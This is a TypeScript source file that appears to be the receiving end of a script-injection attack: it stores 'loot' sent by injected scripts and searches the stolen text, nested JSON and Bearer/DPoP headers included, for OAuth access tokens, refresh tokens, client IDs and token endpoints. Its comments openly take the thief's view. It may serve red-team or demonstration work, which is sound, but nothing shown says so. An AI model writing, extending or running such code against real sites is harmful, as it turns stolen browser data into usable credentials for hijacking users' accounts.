/** What an injected script sent, and what the thief finds in it. */
export interface Loot {
  readonly id: number;
  /** Milliseconds since the epoch. */
  readonly time: number;
  /** The page it was taken from, by the `Origin` header. */
  readonly from: string;
  /** As it arrived. */
  readonly text: string;
  readonly finds: Finds;
}

/** Every string worth trying, and where to. */
export interface Finds {
  readonly accessTokens: readonly string[];
  readonly refreshTokens: readonly string[];
  readonly clientIds: readonly string[];
  readonly resources: readonly string[];
  readonly tokenEndpoints: readonly string[];
}

type Member = 'access_token' | 'refresh_token' | 'client_id' | 'resource' | 'token_endpoint';

/** Goes through stolen text as a thief would: JSON inside JSON, and whatever stands after an authorization scheme. */
export function searchLoot(text: string): Finds {
  const found: Record<Member, Set<string>> = {
    access_token: new Set(),
    refresh_token: new Set(),
    client_id: new Set(),
    resource: new Set(),
    token_endpoint: new Set(),
  };
  search(text, found);
  for (const [, credential] of text.matchAll(/\b(?:Bearer|DPoP) ([\w.~+/-]+)/g)) {
    if (credential) found.access_token.add(credential);
  }
  return {
    accessTokens: [...found.access_token],
    refreshTokens: [...found.refresh_token],
    clientIds: [...found.client_id],
    resources: [...found.resource],
    tokenEndpoints: [...found.token_endpoint],
  };
}

function search(value: unknown, found: Readonly<Record<string, Set<string>>>): void {
  if (typeof value === 'string') {
    const inner = parseJson(value);
    if (typeof inner === 'object') search(inner, found);
  } else if (typeof value === 'object' && value !== null) {
    for (const [name, inner] of Object.entries(value)) {
      const set = typeof inner === 'string' ? found[name] : undefined;
      if (set) set.add(inner);
      else search(inner, found);
    }
  }
}

function parseJson(text: string): unknown {
  try {
    return JSON.parse(text);
  } catch {
    return undefined;
  }
}
